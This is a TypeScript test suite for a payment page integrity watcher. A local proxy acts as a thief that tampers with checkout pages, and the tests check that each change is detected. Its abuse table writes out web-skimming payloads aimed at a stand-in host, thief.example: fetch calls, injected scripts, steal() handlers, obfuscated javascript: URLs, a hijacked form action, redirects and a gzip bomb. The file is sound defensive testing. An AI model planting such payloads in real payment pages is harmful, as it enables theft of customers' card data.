import { createHash } from 'node:crypto';
import { once } from 'node:events';
import { createServer, type IncomingHttpHeaders, request, type Server, type ServerResponse } from 'node:http';
import type { AddressInfo } from 'node:net';
import { gzipSync } from 'node:zlib';
import type { Manifest, PageRun } from '../../functions/core/domain/page-watch/page-run.ts';
import { languages } from '../../functions/core/messages/languages.ts';
import { aws } from '../api/support/aws.ts';
import { type Florin, startFlorin } from '../api/support/florin.ts';
import { send } from '../api/support/http.ts';
import { waitUntil } from '../api/support/wait-until.ts';
import { world } from '../api/support/world.ts';
import { at, runOperator } from './support/run-script.ts';

/** A page on its way from Florin to the customer. */
interface Page {
  url: string;
  status: number;
  headers: IncomingHttpHeaders;
  body: string;
}

type Thief = (page: Page, response: ServerResponse) => Page | undefined;

const honest: Thief = (page) => page;

let florin: Florin;
let proxy: Server;
let thief = honest;
let shop: { key: string; merchant: { id: string; key: string } };
let run: (locale?: string) => Promise<PageRun>;

const variants = ['test amount', 'test dialog', 'test hosted', 'test inline'];

/** A proxy between the customer and Florin, which a thief controls. */
function startProxy(): Server {
  return createServer((asked, response) => {
    const headers = { ...asked.headers, 'accept-encoding': 'identity' };
    request(`${florin.posUrl}${asked.url}`, { method: asked.method, headers }, async (answer) => {
      const chunks = await answer.toArray();
      const { statusCode: status = 0, headers: got } = answer;
      const seen = {
        url: asked.url ?? '',
        status,
        headers: { ...got },
        body: Buffer.concat(chunks).toString(),
      };
      const page = thief(seen, response);
      if (!page) return;
      delete page.headers['content-length'];
      delete page.headers['transfer-encoding'];
      response.writeHead(page.status, page.headers).end(page.body);
    }).end();
  });
}

beforeAll(async () => {
  proxy = createServer();
  await once(proxy.listen(0, '127.0.0.1'), 'listening');
  const { port } = proxy.address() as AddressInfo;
  proxy.close();
  const watchedUrl = `http://127.0.0.1:${port}`;
  florin = await startFlorin(['--memory'], { CDK_CONTEXT_JSON: JSON.stringify({ watchedUrl }) });
  proxy = startProxy();
  await once(proxy.listen(port, '127.0.0.1'), 'listening');
  const { createMerchant } = world(florin);
  shop = await world(florin).shop({ name: 'Tea', methods: ['mobilepay', 'bancontact'] });
  await createMerchant(shop.key, { test: false });
  run = async (locale) => {
    const { error, body } = await aws(florin.aws).invoke('WatchPage', locale ? { locale } : {});
    if (error) throw new Error(JSON.stringify(body));
    return body as unknown as PageRun;
  };
});

afterAll(async () => {
  await florin?.stop();
  proxy?.closeAllConnections();
  proxy?.close();
});

test('the page that Florin makes is equal in each variant and language', async () => {
  for (const locale of languages) {
    const { equal, unreachable, reported, open } = await run(locale);
    expect([locale, unreachable, reported, open]).toEqual([locale, [], [], []]);
    expect(equal).toHaveLength(22);
  }
});

const isHosted = ({ url }: Page) => /[?&]test=1&value=1&locale/.test(url);

/** Changes one page, and leaves the others as they are. */
const on =
  (isIt: (page: Page) => boolean, change: (page: Page) => Partial<Page>): Thief =>
  (page) =>
    isIt(page) ? { ...page, ...change(page) } : page;

const body = (change: (body: string) => string): Thief =>
  on(isHosted, (page) => ({ body: change(page.body) }));
const before = (end: string, text: string): Thief => body((page) => page.replace(end, `${text}${end}`));
const header = (name: string, value?: (old: string) => string): Thief =>
  on(isHosted, ({ headers: { [name]: old = '', ...rest } }) => ({
    headers: value ? { ...rest, [name]: value(String(old)) } : rest,
  }));
const file = (start: string): Thief =>
  on(
    ({ url }) => url.startsWith(start),
    ({ body }) => ({ body: `${body};fetch("https://thief.example")` }),
  );
const policy = (from: RegExp, to: string) =>
  header('content-security-policy', (old) => old.replace(from, to));
const nonce = (page: Page) =>
  /'nonce-([^']+)'/.exec(String(page.headers['content-security-policy']))?.[1] ?? '';

/** A response that the thief sends without Florin. */
const own =
  (send: (response: ServerResponse) => void): Thief =>
  (page, response) => {
    if (!isHosted(page)) return page;
    send(response);
    return undefined;
  };

/** Each abuse: the kind of its finding, and whether the first run reports it. */
const abuses: [name: string, Thief, kind: string, now: boolean][] = [
  ['a changed script of the page', file('/assets/payment-'), 'script', true],
  ['a changed style sheet', file('/assets/page-'), 'script', true],
  ['a changed sdk.js', file('/sdk.js'), 'script', false],
  ['a changed 10.js', file('/10.js'), 'script', false],
  [
    'an added script of Florin’s own address',
    before('</body>', '<script src="/assets/more.js"></script>'),
    'script',
    false,
  ],
  [
    'an added script of another address',
    before('</body>', '<script src="//thief.example/x.js"></script>'),
    'origin',
    true,
  ],
  [
    'an added inline script with the page’s nonce',
    on(isHosted, (page) => ({
      body: page.body.replace('</body>', `<script nonce="${nonce(page)}">steal()</script></body>`),
    })),
    'script',
    false,
  ],
  ['a changed inline script', body((page) => page.replace('f.onsubmit=', 'f.oninput=')), 'script', false],
  ['a removed script', body((page) => page.replace(/<script defer.*?<\/script>/, '')), 'script', false],
  [
    'a changed address in the data of the page',
    body((page) => page.replace('"base":""', '"base":"//thief.example"')),
    'script',
    false,
  ],
  ['an inline handler', before('</main>', '<img src="data:," onerror="steal()">'), 'handler', true],
  [
    'a handler in capital letters, without quotes',
    before('</main>', '<svg ONLOAD=steal()>'),
    'handler',
    true,
  ],
  ['a javascript: URL', before('</main>', '<a href="javascript:steal()">Pay</a>'), 'javascript-url', true],
  [
    'a disguised javascript: URL',
    before('</main>', '<a href=" java&#10;&#x73;cript&colon;steal()">Pay</a>'),
    'javascript-url',
    true,
  ],
  ['a base', before('<title>', '<base href="https://thief.example/">'), 'base', true],
  [
    'a meta policy',
    before('<title>', '<meta http-equiv="Content-Security-Policy" content="default-src *">'),
    'meta',
    true,
  ],
  [
    'a meta refresh',
    before('<title>', '<meta http-equiv=refresh content="0;url=//thief.example">'),
    'meta',
    true,
  ],
  ['a frame', before('</main>', '<iframe srcdoc="<form>"></iframe>'), 'frame', true],
  [
    'an action of the form',
    body((page) => page.replace('<form id="card"', '<form id="card" action="https://thief.example"')),
    'form',
    true,
  ],
  [
    'an action of a button',
    body((page) => page.replace('id="submit"', 'id="submit" formaction="/elsewhere"')),
    'form',
    false,
  ],
  ['a changed text', body((page) => page.replace('</h1>', ' </h1>')), 'content', false],
  ['a comment that hides markup', before('<title>', '<!--<title>-->'), 'content', false],
  ['a missing content security policy', header('content-security-policy'), 'header', true],
  ['a missing HSTS', header('strict-transport-security'), 'header', true],
  ['a missing nosniff', header('x-content-type-options'), 'header', true],
  ['a missing referrer policy', header('referrer-policy'), 'header', false],
  ['a policy with inline scripts', policy(/script-src /, "script-src 'unsafe-inline' "), 'header', false],
  [
    'a policy with another address',
    policy(/connect-src 'self'/, "connect-src 'self' https://thief.example"),
    'header',
    false,
  ],
  [
    'a policy with frames of other sites',
    policy(/frame-ancestors 'none'/, 'frame-ancestors *'),
    'header',
    false,
  ],
  ['a second policy', header('content-security-policy-report-only', () => 'default-src *'), 'header', false],
  ['a header that redirects', header('refresh', () => '0;url=https://thief.example'), 'header', false],
  [
    'a header that loads',
    header('link', () => '<https://thief.example/x.css>; rel=stylesheet'),
    'header',
    false,
  ],
  ['a cookie', header('set-cookie', () => 'a=b'), 'header', false],
  ['another type', header('content-type', () => 'text/plain'), 'header', false],
  ['another status', on(isHosted, () => ({ status: 404 })), 'status', false],
  [
    'a redirect',
    on(isHosted, ({ headers }) => ({
      status: 302,
      headers: { ...headers, location: 'https://thief.example' },
    })),
    'redirect',
    true,
  ],
  [
    'a nonce that stays the same',
    (page) => {
      const [old, fixed] = [nonce(page), 'A'.repeat(22)];
      if (!old) return page;
      const headers = {
        ...page.headers,
        'content-security-policy': String(page.headers['content-security-policy']).replaceAll(old, fixed),
      };
      return { ...page, headers, body: page.body.replaceAll(`nonce="${old}"`, `nonce="${fixed}"`) };
    },
    'nonce',
    true,
  ],
  [
    'a gzip bomb',
    own((response) => {
      response.writeHead(200, { 'content-type': 'text/html', 'content-encoding': 'gzip' });
      response.end(gzipSync(Buffer.alloc(50_000_000)));
    }),
    'size',
    true,
  ],
  [
    'a page that never ends, fast',
    own((response) => {
      const part = Buffer.alloc(100_000, ' ');
      const more = () => {
        while (!response.destroyed && response.write(part));
      };
      response.writeHead(200).on('drain', more);
      more();
    }),
    'size',
    true,
  ],
];

const kindsIn = (all: PageRun['open']) => all.flatMap(({ findings }) => findings.map((one) => one.kind));

describe('abuses', () => {
  // The next abuse begins without a difference that the watch knows already.
  afterEach(async () => {
    thief = honest;
    await run('en');
    await run('en');
  });

  test.each(abuses)('the watch finds %s', async (_, change, kind, now) => {
    thief = change;
    const { reported, open } = await run('en');
    expect(kindsIn(now ? reported : open)).toContain(kind);
  });

  test.each(['hosted', 'amount', 'dialog', 'inline'])(
    'the watch looks at the variant %s',
    async (variant) => {
      const patterns: Record<string, RegExp> = {
        hosted: /test=1&value=1&locale/,
        amount: /test=1&locale/,
        dialog: /test=1.*embed=[^&]*&locale/,
        inline: /test=1.*inline=y/,
      };
      const isVariant = ({ url }: Page) => patterns[variant]?.test(url) ?? false;
      thief = on(isVariant, (page) => ({
        body: page.body.replace('</body>', '<p onclick="steal()"></body>'),
      }));
      const { reported } = await run('de');
      expect(reported.map(({ page }) => page)).toEqual([`test ${variant}`]);
    },
  );

  test('a finding that no deployment explains is reported by the next run, even if the page is correct again', async () => {
    const counted = () => florin.log().match(/"PaymentPageChanged":1/g)?.length ?? 0;
    const before = counted();
    thief = file('/sdk.js');
    expect((await run()).open).toMatchObject([{ page: 'sdk.js' }]);
    expect(counted()).toBe(before);
    thief = honest;
    expect(await run()).toMatchObject({ open: [], reported: [{ page: 'sdk.js', path: '/sdk.js' }] });
    await waitUntil(
      async () => counted(),
      (count) => count === before + 1,
    );
    expect(await run()).toMatchObject({ open: [], reported: [] });
  });

  test('a page that the next release makes is not reported', async () => {
    // The merchant's new name stands for a new release: the next run makes the page that this run has got.
    const { api } = world(florin);
    const { key, merchant } = shop;
    thief = on(
      ({ url }) => url.includes(merchant.key),
      (page) => ({
        body: page.body.replaceAll('Tea', 'Milk'),
      }),
    );
    const first = await run('en');
    expect(first.open.map(({ page }) => page).sort()).toEqual(variants);
    thief = honest;
    expect((await api('PUT', `/merchants/${merchant.id}`, { key, body: { name: 'Milk' } })).status).toBe(204);
    const second = await run('en');
    expect([second.open, second.reported]).toEqual([[], []]);
    expect(second.explained.sort()).toEqual(variants);
  });

  test('a run that cannot fetch a page does not count as finished', async () => {
    const finished = () => florin.log().match(/"job":"WatchPage"/g)?.length ?? 0;
    const before = finished();
    thief = on(isHosted, () => ({ status: 503 }));
    const { unreachable } = await run();
    expect(unreachable).toEqual([{ page: 'test hosted', reason: 'status 503' }]);
    expect(finished()).toBe(before);
  });

  test('a page that ends too late is reported by the next run', async () => {
    thief = own((response) =>
      response.writeHead(200, { 'content-type': 'text/html' }).write('<!doctype html>'),
    );
    const { open } = await run();
    expect(kindsIn(open)).toEqual(['unfinished']);
  });
});

test('an assessor gets the manifest of the release and all runs', async () => {
  const invoke = async (event: object) => (await aws(florin.aws).invoke('WatchPage', event)).body;
  const manifest = (await invoke({ manifest: true })) as unknown as Manifest;
  const { text } = await send(`${florin.posUrl}/sdk.js`, 'GET');
  const hash = `sha384-${createHash('sha384').update(text).digest('base64')}`;
  expect(manifest.parts).toContainEqual(
    expect.objectContaining({ address: '/sdk.js', kind: 'script', hash }),
  );
  for (const { reason } of manifest.parts) expect(reason.length).toBeGreaterThan(15);
  const hosted = manifest.pages.find(({ page }) => page === 'test hosted');
  expect(hosted?.headers['content-security-policy']).toMatch(/^default-src 'none'; style-src 'nonce-NONCE'/);

  const { runs } = (await invoke({ evidence: {} })) as unknown as { runs: (PageRun & { time: string })[] };
  expect(runs.length).toBeGreaterThan(20);
  expect(runs.filter(({ release }) => release)).toEqual([expect.objectContaining({ release: manifest })]);
  expect(await invoke({ evidence: { to: runs.at(-1)?.time } })).toEqual({ runs: [] });
});

test('`florin operator page` prints the checks as CSV, and exits with 1 if the page differs now', async () => {
  const page = (...args: string[]) => runOperator(['page', ...args, '--local'], at(florin));
  const { text } = await page();
  expect(text).toContain('time,run,manifest,result,equal,reported,open,explained,unreachable');
  expect(text).toMatch(/^\d{4}-[^,]+,[0-9a-f]{24},[^,]{16},equal,22,,,,/m);
  expect(await page('--run')).toMatchObject({ code: 0, text: expect.stringContaining('equal') });
  thief = before('</main>', '<base href="//thief.example">');
  expect(await page('--run')).toMatchObject({
    code: 1,
    text: expect.stringContaining('added: //thief.example'),
  });
  thief = honest;
  expect((await page('--manifest')).text).toContain('/assets/payment-');
});

test('a flood of reports from one network counts twice an hour, and the log has no address of a customer', async () => {
  const body = JSON.stringify({
    'csp-report': {
      'document-uri': `${florin.posUrl}/?key=secret&text=ann@example.com`,
      'effective-directive': 'script-src-elem',
      'blocked-uri': 'https://thief.example/x.js?card=4100000000000000',
    },
  });
  const headers = { 'content-type': 'application/csp-report' };
  for (let sent = 0; sent < 20; sent++)
    expect((await send(`${florin.posUrl}/csp-reports`, 'POST', { body, headers })).status).toBe(204);
  const lines = () => florin.log().match(/.*"violations".*/g) ?? [];
  await waitUntil(
    async () => lines().length,
    (count) => count === 2,
  );
  for (const line of lines()) {
    expect(line).toContain('[{"directive":"script-src-elem","blocked":"https://thief.example"}]');
    expect(line).toContain('"PageViolations":1');
    expect(line).not.toMatch(/secret|ann@|4100/);
  }
});
